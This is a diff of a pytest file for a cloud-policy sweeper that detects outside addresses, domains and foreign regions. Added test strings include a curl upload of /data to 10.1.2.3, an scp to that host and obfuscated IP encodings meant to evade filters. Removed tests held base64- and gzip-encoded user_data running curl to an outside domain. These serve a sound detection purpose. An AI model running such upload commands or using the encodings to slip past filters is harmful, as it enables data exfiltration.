@@ -1,7 +1,5 @@
 """The sweeps: what is found in a string, wherever it stands, and what isn't."""
 
-import base64
-import gzip
 from collections.abc import Callable
 
 import pytest
@@ -18,6 +16,17 @@ from tests.policies.builder import OURS, PRIVATE, THEIRS, boundary, boundary_dat
 INSTANCE = "oci:Core/instance:Instance"
 
 FOREIGN = [
+    ("curl -T /data http://10.1.2.3/upload", "outside-address", "10.1.2.3"),
+    ("scp x 10.1.2.3/y", "outside-address", "10.1.2.3"),
+    ("https://user:word@10.1.2.3/x", "outside-address", "10.1.2.3"),
+    ("http://0x0a010203/x", "outside-address", "0x0a010203"),
+    ("http://167838211:80/x", "outside-address", "167838211"),
+    ("http://u@167838211", "outside-address", "167838211"),
+    ("http://012.1.2.3/x", "outside-address", "012.1.2.3"),
+    ("http://0xA.0x1.2.3/", "outside-address", "0xA.0x1.2.3"),
+    ("http://10.66051/", "outside-address", "10.66051"),
+    ("http://[::ffff:10.1.2.3]/x", "outside-address", "10.1.2.3"),
+    ("http://[::FFFF:0a01:203]:80/", "outside-address", "FFFF:0a01:203"),
     ("eu-frankfurt-1", "foreign-region", "eu-frankfurt-1"),
     ("EU-Frankfurt-1", "foreign-region", "EU-Frankfurt-1"),
     ("objectstorage-eu-frankfurt-1", "foreign-region", "eu-frankfurt-1"),
@@ -198,75 +207,6 @@ def test_in_text_for_people_a_key_is_a_word_and_a_name_may_be_a_mention(sweeper:
 def test_a_key_at_the_top_of_what_takes_any_keys_is_swept(sweeper: Sweeper) -> None:
     (hit,) = sweeper.sweep((), "eu-madrid-1")
     assert hit.problem.hint == ""
-
-
-ENCODED: list[Path] = [
-    ("metadata", "user_data"),
-    ("instanceDetails", "userData"),
-    ("deployArtifactSource", "base64encodedContent"),
-]
-
-
-@pytest.mark.parametrize("path", ENCODED)
-@pytest.mark.parametrize("pack_it", [lambda text: text, gzip.compress])
-def test_user_data_and_manifests_are_read_inside_their_encoding(
-    sweeper: Sweeper, pack_it: Callable[[bytes], bytes], path: Path
-) -> None:
-    encoded = base64.b64encode(pack_it(b"#cloud-config\nruncmd: [curl api.outside.example]\n")).decode()
-    (hit,) = sweeper.sweep(path, encoded)
-    assert (hit.rule, hit.problem.token) == ("outside-domain", "api.outside.example")
-    assert "mention" in hit.problem.hint
-
-
-def test_user_data_is_read_in_wrapped_lines_the_url_alphabet_and_without_padding(sweeper: Sweeper) -> None:
-    encoded = base64.urlsafe_b64encode(">>>¿¿¿ curl 10.1.2.3".encode()).decode().rstrip("=")
-    assert "-" in encoded and "_" in encoded
-    wrapped = "\n".join(encoded[at : at + 10] for at in range(0, len(encoded), 10))
-    assert [hit.problem.token for hit in sweeper.sweep(("user_data",), wrapped)] == ["10.1.2.3"]
-
-
-@pytest.mark.parametrize("padding", ["", "=", "==="])
-def test_user_data_is_read_whatever_its_padding_is(sweeper: Sweeper, padding: str) -> None:
-    encoded = base64.b64encode(b"see eu-madrid-1").decode()
-    assert encoded.endswith("x")
-    assert [hit.problem.token for hit in sweeper.sweep(("user_data",), encoded + padding)] == ["eu-madrid-1"]
-
-
-def test_user_data_that_is_no_text_is_read_for_the_text_in_it(sweeper: Sweeper) -> None:
-    encoded = base64.b64encode(b"\xff\xfe curl 10.1.2.3").decode()
-    assert [hit.problem.token for hit in sweeper.sweep(("user_data",), encoded)] == ["10.1.2.3"]
-
-
-def test_user_data_is_read_as_it_stands_and_as_what_it_carries(sweeper: Sweeper) -> None:
-    encoded = base64.b64encode(b"run 10.1.2.3").decode()
-    hits = sweeper.sweep(("user_data",), f"/n/theirspace/aa{encoded}")
-    assert [hit.problem.token for hit in hits] == ["theirspace", "10.1.2.3"]
-
-
-def test_user_data_that_is_not_encoded_is_read_as_it_is(sweeper: Sweeper) -> None:
-    (hit,) = sweeper.sweep(("user_data",), "fetch 10.1.2.3.")
-    assert (hit.problem.token, hit.problem.hint) == ("10.1.2.3", "")
-
-
-def test_what_only_looks_encoded_is_not_read(sweeper: Sweeper) -> None:
-    assert sweeper.sweep(("metadata", "token"), base64.b64encode(b"see eu-madrid-1").decode()) == ()
-
-
-@pytest.mark.parametrize(
-    "data", [gzip.compress(b"x" * 2_000_000), gzip.compress(b"hello")[:-9], b"\x1f\x8bno gzip at all"]
-)
-def test_user_data_that_can_not_be_read_whole_stops_every_sweep_with_a_finding(pack: Pack, data: bytes) -> None:
-    verdict = pack.judge.judge(
-        resource(INSTANCE, PRIVATE | {"metadata": {"user_data": base64.b64encode(data).decode()}})
-    )
-    assert {finding.rule for finding in verdict.findings} == {
-        "foreign-region",
-        "foreign-ocid",
-        "outside-namespace",
-        "outside-address",
-        "outside-domain",
-    }
-    assert all(finding.could_not_run for finding in verdict.findings)
 
 
 def test_a_secret_is_swept_and_nothing_of_it_is_shown(pack: Pack) -> None:
